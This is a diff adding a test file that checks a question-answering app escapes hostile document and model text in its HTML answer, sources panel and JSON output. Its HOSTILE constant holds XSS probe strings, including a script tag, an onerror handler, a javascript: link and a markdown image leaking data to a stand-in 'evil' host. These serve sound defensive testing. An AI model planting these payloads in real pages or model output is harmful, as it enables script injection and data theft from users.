@@ -1,0 +1,52 @@
+"""What the app shows: document and model text is escaped; only our own markup gets through."""
+
+from qa.render import answer_html, answer_json, escape_text, sources_html
+from qa.types import Answer, Chunk, Citation, Passage
+
+HOSTILE = '<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) ![i](http://evil/leak?d=1)'
+
+
+def passage(text: str, n: int, start: int = 0) -> Passage:
+    return Passage(Chunk(f"c{n}", "d", "Disputes > Liancourt Rocks", text, start, start + len(text)), 0.03, n, 0.7, 1, 5.0, 2)
+
+
+def test_hostile_text_is_inert():
+    out = escape_text(HOSTILE)
+    for raw in ("<script", "<img", "](javascript:", "![i]("):
+        assert raw not in out
+    assert "&lt;script&gt;" in out
+
+
+def test_markers_become_links_only_for_shown_passages():
+    html = answer_html("Signed in 1965 [1]. Also [3]. <b>x</b>", passages_shown=2)
+    assert '<a class="cite" href="#src-1" data-marker="1">[1]</a>' in html
+    assert "#src-3" not in html and "<b>" not in html
+
+
+def test_sources_panel_highlights_the_cited_span_and_collapses_the_rest():
+    text = f"Intro {HOSTILE}. The rocks are called Dokdo. Tail."
+    cited = passage(text, 1, start=100)
+    quote = "The rocks are called Dokdo."
+    start = 100 + text.index(quote)
+    answer = Answer(
+        "What are they called?", f"{quote} [1]", (Citation(1, "c1", quote, start, start + len(quote)),),
+        (cited, passage("Other passage <script>x</script>", 2, 900)), False, "evidence", "m", query="rocks called (Dokdo)",
+    )
+    html = sources_html(answer, lambda c: "Japan–South Korea relations", show_scores=True)
+    assert '<div class="source" id="src-1"' in html and f"<mark>{quote}</mark>" in html
+    assert "characters 100–" in html and "Disputes › Liancourt Rocks" in html
+    assert "<details><summary>Other retrieved passages (1)</summary>" in html and 'id="src-2"' in html
+    assert "<script" not in html and "<img" not in html and "fused 0.0300" in html
+    assert "Searched for: <q>rocks called (Dokdo)</q>" in html
+
+
+def test_answer_json_matches_the_cli_contract():
+    p = passage("The rocks are called Dokdo.", 1)
+    answer = Answer("q", "The rocks are called Dokdo. [1]", (Citation(1, "c1", "The rocks are called Dokdo.", 0, 27),),
+                    (p,), False, "evidence", "minilm", timings={"retrieve_ms": 1.0, "first_token_ms": 2.0, "total_ms": 3.0})
+    out = answer_json(answer, lambda c: "T")
+    assert out["citations"] == [
+        {"marker": 1, "chunk_id": "c1", "doc_id": "d", "title": "T", "section": "Disputes > Liancourt Rocks",
+         "start": 0, "end": 27, "quote": "The rocks are called Dokdo."}
+    ]
+    assert out["passages"][0]["dense_rank"] == 1 and out["timings"]["total_ms"] == 3.0
